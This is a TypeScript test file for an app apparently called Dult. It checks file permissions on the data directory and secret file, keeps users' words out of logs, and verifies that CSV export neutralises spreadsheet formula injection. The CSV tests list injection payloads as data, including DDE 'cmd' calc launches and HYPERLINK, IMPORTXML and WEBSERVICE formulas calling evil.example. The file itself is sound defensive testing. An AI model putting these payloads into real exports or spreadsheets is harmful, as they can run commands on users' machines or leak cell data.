/** What lies there when nobody is looking: the files of the store, the lines of the log, and the tables that are taken away. */

import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest'
import { toCsv } from '../../src/core/csv.ts'
import { insert, remove } from '../../src/core/store.ts'
import { logFile } from '../../src/edges/log/log.ts'
import { diskFiles, type Files } from '../../src/edges/store/file/files.ts'
import { secretBeside } from '../../src/edges/store/file/secretBeside.ts'
import { openFileStore } from '../../src/edges/store/file.ts'
import { openMemoryStore } from '../../src/edges/store/memory.ts'
import { collections } from '../../src/features.ts'
import { carriedBy } from '../support/carried.ts'
import { startTrust, type Trust } from '../support/trust.ts'

describe.skipIf(process.platform === 'win32')('the data directory', () => {
  let dir = ''
  let umask = 0
  beforeEach(() => {
    dir = path.join(mkdtempSync(path.join(tmpdir(), 'dult-rest-')), 'data')
    // Whoever starts Dult may have left all files open to everybody.
    umask = process.umask(0)
  })
  afterEach(() => {
    process.umask(umask)
    rmSync(path.dirname(dir), { recursive: true })
  })

  it('holds no secret that its names are made with: that lies beside it, for its account only, and stays the same', () => {
    let made = 0
    const secret = () => secretBeside(dir, () => `secret-${++made}`)
    mkdirSync(dir)
    expect([secret(), secret()]).toEqual(['secret-1', 'secret-1'])
    expect(readdirSync(dir)).toEqual([])
    expect(readdirSync(path.dirname(dir)).sort()).toEqual(['data', 'data.secret'])
    expect(statSync(`${dir}.secret`).mode & 0o777).toBe(0o600)
    // A folder in its place: nothing can be kept there.
    rmSync(`${dir}.secret`)
    mkdirSync(`${dir}.secret`)
    expect(secret()).toBeNull()
  })

  const open = (): string[] =>
    [dir, ...readdirSync(dir).map(name => path.join(dir, name))]
      .map(file => ({ file, at: statSync(file, { throwIfNoEntry: false }) }))
      .filter(({ at }) => at && (at.mode & 0o777) !== (at.isDirectory() ? 0o700 : 0o600))
      .map(({ file }) => path.basename(file))

  /** A disk that is looked over after each step. */
  const watched = (found: Set<string>): Files => {
    const look = async <T>(step: Promise<T>): Promise<T> => {
      const done = await step
      for (const file of open()) found.add(file)
      return done
    }
    return {
      open: path => look(diskFiles.open(path)),
      rename: (from, to) => look(diskFiles.rename(from, to)),
      remove: path => look(diskFiles.remove(path)),
      syncNames: path => look(diskFiles.syncNames(path)),
    }
  }

  it('is open to nobody else at any step, and no file in it is', async () => {
    const found = new Set<string>()
    const files = watched(found)
    for (let time = 0; time < 3; time += 1) {
      const store = await openFileStore({ dir, collections, files, compactAboveBytes: 200 })
      for (let nth = 0; nth < 20; nth += 1)
        await store.write([insert({ name: 'deviations', index: [] }, { id: `${time}-${nth}` })])
      const gone = await store.get({ name: 'deviations', index: [] }, `${time}-3`)
      if (gone) await store.write([remove({ name: 'deviations', index: [] }, gone)])
      await store.purge()
      await store.close()
    }
    logFile(path.join(dir, 'demo.log')).write('{}\n')
    expect([...found, ...open()]).toEqual([])
  })
})

/** What stands between a person's words and the log in which nobody looks for them. */
const words = 'hestehov i grøftekanten'

describe('the log', () => {
  let trust: Trust
  afterAll(() => trust.close())

  const say = async (more: object) => {
    trust.clock.pass(1000)
    await trust.post(trust.person('ada').activity(more))
  }

  const press = (verb: string, data: object) =>
    say({
      type: 'invoke',
      name: 'adaptiveCard/action',
      value: { action: { type: 'Action.Execute', title: verb, verb, data }, trigger: 'manual' },
    })

  /** All buttons of a feature at once, and then the next. */
  const sayEverything = async () => {
    const carried = carriedBy()
    for (const { actions = [] } of trust.app.features)
      await Promise.all(
        actions.map(({ verb }) =>
          press(verb, { ...carried.get(verb), text: words, note: words, title: words, name: words }),
        ),
      )
    await Promise.all(
      trust.app.commands.map(({ words: [called] }) =>
        say({ type: 'message', text: `${called} ${words}`, textFormat: 'plain' }),
      ),
    )
  }

  it('holds no words of anybody, whatever is said and pressed, also when the store quotes them in its errors', async () => {
    const store = openMemoryStore(collections)
    let angry: 'never' | 'at writes' | 'always' = 'never'
    trust = await startTrust({
      store: {
        ...store,
        get: (...asked) =>
          angry === 'always' ? Promise.reject(new Error(`${words} ${asked[1]}`)) : store.get(...asked),
        write: changes =>
          angry === 'never' ? store.write(changes) : Promise.reject(new Error(JSON.stringify(changes))),
      },
    })
    await sayEverything()
    const before = trust.log().split('\n').length
    // What writes nothing fails at its first look only.
    angry = 'at writes'
    await sayEverything()
    angry = 'always'
    await sayEverything()
    angry = 'never'
    expect(trust.log().split('\n').length - before).toBeGreaterThan(20)
    expect(trust.log()).not.toMatch(/hestehov|grøftekanten/i)
  })
})

describe('a table', () => {
  /** Parts cells wherever they may be parted, and takes no notice of quotes. */
  const readBadly = (csv: string, parting: RegExp): string[] =>
    csv.split(/[\r\n]+/).flatMap(line => line.split(parting).map(cell => cell.replace(/^[\s"\uFEFF]+/u, '')))

  const runs = /^[=+\-@＝＋－＠].*[(|!]/u

  it.each([
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x!A0',
    '@SUM(1+1)*cmd|x!A0',
    '＝HYPERLINK("http://evil.example";"x")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    '=WEBSERVICE("http://evil.example")',
  ])('runs nothing in any spreadsheet, wherever in a text it stands: %s', formula => {
    const texts = [
      '',
      ' ',
      '\t',
      '\r',
      '\n',
      '\u00A0',
      '\u3000',
      'a,',
      'a;',
      'a, ',
      'a\n',
      'a\r\n',
      'a\t',
      'a"',
      '"',
      '",',
      '";',
    ].flatMap(before => ['', ',b', ';b', '\nb', '"'].map(after => before + formula + after))
    const csv = toCsv(texts.map(text => ({ day: '2026-11-28', text, more: 'x' })))
    for (const parting of [/;/, /,/, /\t/, /[;,\t]/])
      expect(readBadly(csv, parting).filter(cell => runs.test(cell))).toEqual([])
  })

  it('leaves lists and sums of ordinary writing as they are', () => {
    const text = 'Tre ting:\n- lyd, -2 dB\n- bilde; = borte\n+ kaffe'
    expect(toCsv([{ text }])).toContain(`"${text}"`)
  })
})
